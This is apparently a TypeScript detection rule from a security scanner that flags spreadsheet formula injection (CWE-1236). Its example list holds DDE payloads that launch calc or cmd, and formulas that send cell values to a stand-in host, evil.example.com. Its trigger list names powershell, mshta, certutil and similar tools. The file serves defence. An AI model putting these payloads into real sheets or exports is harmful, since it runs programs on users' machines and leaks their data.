import { confidence } from '../../placement/confidence.ts';
import { firstOf, foundBy } from '../../placement/evidence.ts';
import type { Subject } from '../../placement/subject.ts';
import { wordList } from '../../text/words.ts';
import type { Match, ValueRule } from '../rule.ts';

/** `=cmd|'/c calc'!A0`, `=WEBSERVICE("http://x/"&A1)`: cells that act when a sheet is opened. */
export const formula: ValueRule = {
  id: 'code.formula',
  cwe: 'CWE-1236',
  severity: 'high',
  score: confidence.strong,
  message: 'is a spreadsheet formula that starts a program or sends cells to another machine',
  trigger: {
    literals: [
      [
        ...wordList(
          'cmd| cmd.exe| msexcel| powershell| mshta| rundll32| regsvr32| wscript| certutil|',
          'calc|',
        ),
        "!'",
        "|'",
        ...wordList(
          'hyperlink( webservice( importxml( importdata( importfeed( importhtml(',
          'importrange( image( dde( =exec( =call( =register( register.id(',
        ),
      ],
    ],
  },
  judge,
  examples: [
    "=cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|'/c notepad'!A1",
    '=HYPERLINK("http://evil.example.com/?x="&A1&A2,"Open")',
    '=WEBSERVICE(CONCATENATE("http://evil.example.com/",B2))',
    'Anna,=IMPORTDATA("http://evil.example.com/?q="&C2:C9),5',
    '=DDE("cmd";"/C calc";"x")',
    '=EXEC("cmd.exe /c calc")',
    '=IMPORTXML("http://evil.example.com/","//a")',
    '=_xlfn.WEBSERVICE("http://evil.example.com/")',
    '=REGISTER.ID("kernel32","WinExec")',
    '=IMPORTRANGE("https://docs.google.com/d/"&A1,"B2")',
  ],
  lookalikes: [
    '=SUM(A1:A3)*2',
    '=HYPERLINK("https://example.com/report","Report")',
    '=IF(A1>5,"yes","no")&" of "&B2',
    'How do I use =WEBSERVICE("https://example.com/"&A1) in a sheet?',
    '-5+3',
    '=IMAGE("https://www.example.com/logo.png")',
    'Use =IMPORTXML("https://www.example.com/","//h1") to read a page.',
    '=IMPORTRANGE(A1,"B2:C3")',
    {
      body: {
        content: '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/abc","Sheet1!A1:B2")',
      },
    },
    { body: { userEnteredValue: '=IMPORTHTML("https://www.example.com/","table",1)' } },
    { body: { formula: '=IMPORTXML("https://www.example.com/prices","//td")' } },
    { body: { cells: [['=WEBSERVICE("https://www.example.com/rate")']] } },
    '=VLOOKUP(A2,Sheet2!A:B,2,FALSE)',
    "='My sheet'!A1",
    '@anna +1 | see cmd | and more',
  ],
};

function judge(subject: Subject): Match | undefined {
  const text = subject.text;
  const exchange = dynamicExchange.exec(text);
  if (exchange !== null) return foundBy(exchange, confidence.certain);
  for (const match of firstOf(subject, text.matchAll(reaching))) {
    const start = cellStart(text, match.index);
    if (start < 0) continue;
    const rest = text.slice(match.index, match.index + argumentsMax);
    const end = match.index + match[0].length;
    if (runs.test(rest)) return { start, end, score: confidence.strong };
    const outside = rest.replace(literal, '""');
    if (!target.test(rest)) continue;
    const isSent = joined.test(outside) || gathers.test(outside);
    // A cell that is nothing but a call which fetches by itself: links and pictures are shown.
    const isCell = start === 0 && !sheetMember.test(subject.member);
    if (isSent || (isCell && fetches.test(rest))) {
      return { start, end: Math.min(text.length, end + 60) };
    }
  }
  return undefined;
}

const argumentsMax = 240;
const cellMax = 48;

/** Start of the cell that holds a call; -1 when the text around it is no formula. */
function cellStart(text: string, call: number): number {
  const from = Math.max(0, call - cellMax);
  const match = cell.exec(text.slice(from, call));
  if (match === null) return -1;
  const isStart = from + match.index === 0;
  return isStart || cellEdges.includes(text.charAt(from + match.index)) ? from + match.index : -1;
}

const cellEdges = ',;\t\n"';
/** From the edge of a cell to a call in it. */
const cell = /(?:^|[,;\t\n"]) {0,2}[=+@-][\w(.,<>=+*/&-]{0,40}$/;
const dynamicExchange =
  /(?:^|[,;\t\n"]) {0,2}[=+@-](?:[\w+*/().-]{0,24}[+*/=(-])?(?:cmd|msexcel|excel|winword|powershell|mshta|rundll32|regsvr32|wscript|cscript|certutil|calc|[a-z]:\\[\w\\.]{1,40})(?:\.exe)?\|['" /\\]/i;
const reaching =
  /\b(?:hyperlink|webservice|import(?:xml|data|feed|html|range)|image|dde|exec|call|register(?:\.id)?) {0,2}\(/gi;
/** Calls that run something by themselves. */
const runs = /^(?:dde|exec|call|register(?:\.id)?) {0,2}\( {0,2}"/i;
/** Where the client of a spreadsheet writes the formulas of its user. */
const sheetMember = /formula|cell|expression|entered_?value|(?:^|[._[])(?:values|rows|range)\b/i;
/**
 * Calls that ask another machine when the sheet is opened. Not IMPORTRANGE: it asks for a sheet of
 * Google's, and nothing before the user has allowed it.
 */
const fetches = /^(?:webservice|import(?:xml|data|feed|html)) {0,2}\(/i;
const literal = /"[^"\n]{0,120}"/g;
const target = /"(?:https?:|ftp:|\/\/|\\\\)/i;
/** A cell that is appended: `&A1`, `A1&`. */
const joined = /& {0,2}\$?[A-Za-z]{1,3}\$?\d{1,6}\b|\b[A-Za-z]{1,3}\d{1,6} {0,2}&/;
const gathers =
  /\b(?:concat|concatenate|textjoin|join|encodeurl|arraytotext|cell|info) {0,2}\([^)\n]{0,120}\$?[A-Za-z]{1,3}\$?\d/i;
